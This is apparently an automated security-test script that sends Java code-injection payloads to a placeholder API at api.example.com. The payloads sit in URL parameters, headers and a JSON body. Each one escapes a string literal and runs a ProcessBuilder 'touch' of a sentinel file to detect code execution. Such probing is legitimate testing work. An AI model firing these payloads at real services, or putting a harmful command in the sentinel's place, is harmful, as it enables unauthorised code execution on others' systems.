import requests

response = requests.post(
    "https://api.example.com/v1/payloads?value0=%22%20%2B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%20%2B%20%22&%22%20%2B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%20%2B%20%22=key0&value1=%5Cu0022%20%2B%20new%20ProcessBuilder%28%5Cu0022touch%5Cu0022%2C%20%5Cu0022SENTINEL_PATH%5Cu0022%29.start%28%29.waitFor%28%29%20%2B%20%5Cu0022&%5Cu0022%20%2B%20new%20ProcessBuilder%28%5Cu0022touch%5Cu0022%2C%20%5Cu0022SENTINEL_PATH%5Cu0022%29.start%28%29.waitFor%28%29%20%2B%20%5Cu0022=key1&value2=%22%22%22%20%2B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%20%2B%20%22%22%22&%22%22%22%20%2B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%20%2B%20%22%22%22=key2&value3=%22%29%3B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%3B%20%2F%2F&%22%29%3B%20new%20ProcessBuilder%28%22touch%22%2C%20%22SENTINEL_PATH%22%29.start%28%29.waitFor%28%29%3B%20%2F%2F=key3&value4=%5Cu000a%5Cu000d%5Cu005c%20%5Cuuu0022%20%25s%20%25n%20%7B0%7D%20%5C&%5Cu000a%5Cu000d%5Cu005c%20%5Cuuu0022%20%25s%20%25n%20%7B0%7D%20%5C=key4",
    headers={
        "Content-Type": "application/json",
        "Authorization": "Bearer \\u0022 + new ProcessBuilder(\\u0022touch\\u0022, \\u0022SENTINEL_PATH\\u0022).start().waitFor() + \\u0022",
        "X-Payload-0": "\" + new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor() + \"",
        "X-Payload-1": "\\u0022 + new ProcessBuilder(\\u0022touch\\u0022, \\u0022SENTINEL_PATH\\u0022).start().waitFor() + \\u0022",
        "X-Payload-2": "\"\"\" + new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor() + \"\"\"",
        "X-Payload-3": "\"); new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor(); //",
        "X-Payload-4": "\\u000a\\u000d\\u005c \\uuu0022 %s %n {0} \\",
    },
    json={
        "values": [
            "\" + new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor() + \"",
            "\\u0022 + new ProcessBuilder(\\u0022touch\\u0022, \\u0022SENTINEL_PATH\\u0022).start().waitFor() + \\u0022",
            "\"\"\" + new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor() + \"\"\"",
            "\"); new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor(); //",
            "\\u000a\\u000d\\u005c \\uuu0022 %s %n {0} \\",
        ],
        "keys": {
            "\" + new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor() + \"": 0,
            "\\u0022 + new ProcessBuilder(\\u0022touch\\u0022, \\u0022SENTINEL_PATH\\u0022).start().waitFor() + \\u0022": 1,
            "\"\"\" + new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor() + \"\"\"": 2,
            "\"); new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor(); //": 3,
            "\\u000a\\u000d\\u005c \\uuu0022 %s %n {0} \\": 4,
        },
        "nested": {
            "deeper": [
                {
                    "text": "\" + new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor() + \" \\u0022 + new ProcessBuilder(\\u0022touch\\u0022, \\u0022SENTINEL_PATH\\u0022).start().waitFor() + \\u0022 \"\"\" + new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor() + \"\"\" \"); new ProcessBuilder(\"touch\", \"SENTINEL_PATH\").start().waitFor(); // \\u000a\\u000d\\u005c \\uuu0022 %s %n {0} \\",
                },
            ],
        },
    },
)
print(response.text)
